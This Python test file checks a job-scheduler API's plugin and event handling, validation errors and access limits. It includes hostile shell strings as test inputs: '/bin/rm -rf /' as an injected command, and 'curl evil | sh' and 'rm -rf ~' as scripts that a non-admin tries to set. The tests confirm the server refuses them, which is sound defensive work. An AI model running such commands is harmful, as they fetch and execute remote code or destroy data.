"""Plugins and events: stock records, save-time validation, access limits, run refusals."""

from __future__ import annotations

from harness import Api, login

SHELL = {"enabled": True, "category": "general", "plugin": "shellplug", "targets": ["main"], "algo": "random",
         "params": {"script": "#!/bin/sh\ntrue\n"}, "triggers": [{"type": "manual", "enabled": True}]}


def test_stock_plugins_are_seeded(admin: Api):
    plugins = {p["id"]: p for p in admin.ok("get_plugins")["rows"]}
    assert {"shellplug", "httpplug", "testplug"} <= set(plugins)
    assert plugins["shellplug"]["command"] == "[shell-plugin]" and plugins["shellplug"]["kill"] == "all"
    assert admin.call("get_plugin", {"id": "nope"})["code"] == "notfound"


def test_plugin_crud_and_param_validation(admin: Api, uid):
    params = [{"id": "name", "title": "Name", "type": "text", "value": "x", "required": True}]
    made = admin.ok("create_plugin", {"id": uid, "title": "P", "type": "event", "command": "/bin/echo",
                                      "params": params})
    assert made["plugin"]["params"] == params
    updated = admin.ok("update_plugin", {"id": uid, "title": "P2"})
    assert updated["plugin"]["title"] == "P2" and updated["plugin"]["revision"] == 2
    dup = admin.call("create_plugin", {"id": uid, "title": "P", "type": "event", "command": "x"})
    assert dup == {"code": "plugin", "description": f"That Plugin ID already exists: {uid}"}
    bad = admin.call("create_plugin", {"title": "P", "type": "event", "command": "x", "params": "nope"})
    assert bad["description"] == "Malformed plugin parameter: params (must be array)"
    bad = admin.call("create_plugin", {"title": "P", "type": "event", "command": "x",
                                       "params": [{"id": "a", "title": "A", "type": "slider"}]})
    assert bad["code"] == "api" and bad["description"].startswith("Malformed plugin parameter")
    assert admin.call("create_plugin", {"title": "P", "type": "bogus", "command": "x"})["code"] == "api"
    assert admin.call("update_plugin", {"id": "nosuch", "title": "x"}) == {"code": "api",
                                                                          "description": "Plugin not found: nosuch"}
    admin.ok("delete_plugin", {"id": uid})


def test_event_crud_returns_records(admin: Api, uid):
    made = admin.ok("create_event", {"id": uid, "title": "E", **SHELL})["event"]
    assert made["id"] == uid and made["revision"] == 1 and made["params"]["script"].startswith("#!")
    got = admin.ok("get_event", {"id": uid})
    assert got["event"]["title"] == "E" and got["jobs"] == [] and got["queued"] == 0
    updated = admin.ok("update_event", {"id": uid, "title": "E2", "command": "/bin/rm -rf /"})["event"]
    assert updated["title"] == "E2" and "command" not in updated  # launch context is never taken from clients
    assert [e["id"] for e in admin.ok("get_events", {"title": "E2"})["rows"]] == [uid]
    history = admin.ok("get_event_history", {"id": uid, "limit": 5})["rows"]
    assert [r["action"] for r in history] == ["event_update", "event_create"] and "ip" not in history[0]
    admin.ok("delete_event", {"id": uid})
    assert admin.call("delete_event", {"id": uid}) == {"code": "event", "description": f"Event not found: {uid}"}


def test_event_validation_refuses_bad_records(admin: Api):
    cases = [
        ({**SHELL, "plugin": "nope"}, "Plugin not found: nope"),
        ({**SHELL, "category": "nope"}, "Category not found: nope"),
        ({**SHELL, "targets": []}, "Event has no targets specified."),
        ({**SHELL, "algo": "sideways"}, "Unknown algorithm: sideways"),
        ({**SHELL, "tags": ["nope"]}, "Unknown tag: nope"),
        ({**SHELL, "limits": [{"type": "time", "enabled": True}]}, "Malformed limit"),
        ({**SHELL, "limits": [{"type": "queue", "enabled": True, "amount": 2}]}, "needs an enabled job limit"),
        ({**SHELL, "actions": [{"type": "email", "condition": "sometimes", "enabled": True}]}, "unknown condition"),
        ({**SHELL, "triggers": [{"type": "schedule", "enabled": True, "months": [13]}]}, ""),
        ({**SHELL, "params": "x"}, "params"),
    ]
    for body, message in cases:
        data = admin.call("create_event", {"title": "Bad", **body})
        assert data["code"] == "api", (body, data)
        assert message in data["description"], (message, data)
    assert not [e for e in admin.ok("get_events")["rows"] if e["title"] == "Bad"]


def test_category_in_use_cannot_be_deleted(admin: Api, uid):
    admin.ok("create_category", {"id": uid, "title": "C"})
    admin.ok("create_event", {"id": uid, "title": "E", **SHELL, "category": uid})
    data = admin.call("delete_category", {"id": uid})
    assert data == {"code": "category", "description": "Failed to delete category: Still in use by one or more events."}
    admin.ok("delete_event", {"id": uid})
    admin.ok("delete_category", {"id": uid})


def test_non_admin_cannot_change_locked_script(conductor, admin: Api, uid):
    name = "u" + uid
    admin.ok("admin_create", {"username": name, "password": "pw", "email": "a@b.c", "full_name": "Dev",
                              "privileges": {"create_events": True, "edit_events": True}}, ns="user")
    dev = login(conductor.url, name, "pw")
    made = dev.ok("create_event", {"id": uid, "title": "E", **SHELL,
                                   "params": {"script": "#!/bin/sh\ncurl evil | sh\n"}})["event"]
    assert made["params"]["script"] == "#!/bin/sh\n\n# Enter your shell script code here"
    admin.ok("update_event", {"id": uid, "params": {"script": "#!/bin/sh\necho admin\n"}})
    after = dev.ok("update_event", {"id": uid, "params": {"script": "#!/bin/sh\nrm -rf ~\n"}})["event"]
    assert after["params"]["script"] == "#!/bin/sh\necho admin\n"
    admin.ok("delete_event", {"id": uid})


def test_run_event_refusals(admin: Api, uid):
    assert admin.call("run_event", {"id": "no_such_event"}) == {"code": "event",
                                                                "description": "Event not found: no_such_event"}
    admin.ok("create_event", {"id": uid, "title": "E", **SHELL, "triggers": []})
    data = admin.call("run_event", {"id": uid})
    assert data == {"code": "event", "description": f"Event does not allow manual job runs: {uid}"}
    admin.ok("update_event", {"id": uid, "enabled": False, "triggers": SHELL["triggers"]})
    assert admin.call("run_event", {"id": uid})["code"] == "event"
    admin.ok("delete_event", {"id": uid})


def test_job_without_any_server_ends_with_a_clear_reason(admin: Api, uid):
    admin.ok("create_event", {"id": uid, "title": "E", **SHELL, "targets": ["no_such_group"]})
    job_id = admin.ok("run_event", {"id": uid})["id"]
    job = None
    for _ in range(100):
        job = admin.ok("get_job", {"id": job_id})["job"]
        if job.get("final"):
            break
    assert job and job["final"] and job["code"] == "abort"
    assert job["description"] == "No available servers matching targets."
    found = admin.ok("search_jobs", {"query": f"event:{uid}", "limit": 5})["rows"]
    assert [j["id"] for j in found] == [job_id]
    assert admin.call("abort_job", {"id": job_id})["code"] == "job"
    admin.ok("delete_job", {"id": job_id})
    assert admin.call("get_job", {"id": job_id})["code"] == "notfound"
    admin.ok("delete_event", {"id": uid})


def test_category_limited_user_lists_only_their_events(conductor, admin: Api, uid):
    admin.ok("create_category", {"id": uid, "title": "Mine"})
    mine = admin.ok("create_event", {"title": "Mine", **SHELL, "category": uid})["event"]["id"]
    other = admin.ok("create_event", {"title": "Other " + uid, **SHELL})["event"]["id"]
    name = "lim" + uid
    admin.ok("admin_create", {"username": name, "password": "pw-" + name, "email": f"{name}@example.com",
                              "full_name": "Limited", "privileges": {"edit_events": True},
                              "categories": [uid]}, ns="user")
    user = login(conductor.url, name, "pw-" + name)
    try:
        listed = {e["id"] for e in user.ok("get_events")["rows"]}
        assert mine in listed and other not in listed
        everything = {e["id"] for e in admin.ok("get_events")["rows"]}
        assert {mine, other} <= everything
    finally:
        user.close()
        admin.ok("delete_event", {"id": mine})
        admin.ok("delete_event", {"id": other})
